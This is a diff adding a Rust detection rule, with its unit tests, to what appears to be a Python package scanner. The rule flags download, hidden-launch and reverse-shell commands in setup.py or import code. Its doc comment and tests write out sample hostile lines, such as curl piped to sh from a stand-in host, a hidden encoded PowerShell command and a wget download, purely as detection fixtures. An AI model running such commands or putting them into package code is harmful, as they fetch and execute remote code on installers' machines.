@@ -1,0 +1,73 @@
+use super::vocab;
+use crate::declare_rule;
+use crate::inspect::rules::{Rule, RuleMeta};
+use crate::inspect::{Analysis, Finding, Severity, Stage};
+
+declare_rule! {
+    /// ## What it does
+    /// Flags shell commands that download, launch hidden processes, open
+    /// reverse shells or change permissions (`curl`, `wget`, `powershell`,
+    /// `certutil`, `/dev/tcp`, `| sh`, `chmod +x`…) run through `os.system`,
+    /// `subprocess` or `os.popen`.
+    ///
+    /// ## Why is this bad?
+    /// In `setup.py` these run with the installing user's rights before anyone
+    /// has looked at the package; on import they run in every program that uses it.
+    ///
+    /// ## Example
+    /// ```python
+    /// os.system("curl -s https://x.example/i.sh | sh")                # Error
+    /// subprocess.Popen("powershell -w hidden -c iwr ...", shell=True)  # Error
+    /// subprocess.check_output(["git", "describe", "--tags"])           # No error
+    /// ```
+    ///
+    /// ## False positives
+    /// Command-line tools that shell out to `curl` from a function: reported
+    /// as `medium` there, which alone does not change the verdict.
+    ShellCommand, id = "shell-command", severity = Critical,
+    summary = "download/launch/reverse-shell commands run through os.system or subprocess"
+}
+
+impl Rule for ShellCommand {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
+        for unit in analysis.units() {
+            for call in unit.code.calls.iter().filter(|c| vocab::is_shell(&c.name)) {
+                let Some(what) = call.arg_strs.iter().find_map(|s| vocab::dangerous_command(s)) else { continue };
+                let severity = match call.stage {
+                    Stage::Install => Severity::Critical,
+                    Stage::Import => Severity::High,
+                    Stage::Call => Severity::Medium,
+                    Stage::Auxiliary => Severity::Low,
+                };
+                let message = format!("{}() runs a shell command using {what} {}", call.name, call.stage.describe());
+                out.push(unit.finding(Self::META.id, severity, call.line, message));
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::testing::setup_py;
+
+    #[test]
+    fn fires_on() {
+        let f = setup_py(&ShellCommand, "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n");
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+        let f = setup_py(&ShellCommand, "from subprocess import Popen as P\nP('powershell -w hidden -enc AAAA', shell=True)\n");
+        assert_eq!(f.len(), 1);
+        let f = setup_py(&ShellCommand, "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n");
+        assert_eq!(f.len(), 1, "folded variable argument");
+    }
+
+    #[test]
+    fn quiet_on() {
+        assert!(setup_py(&ShellCommand, "import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n").is_empty());
+        assert!(setup_py(&ShellCommand, "import os\nos.system('make -C src')\n").is_empty());
+    }
+}
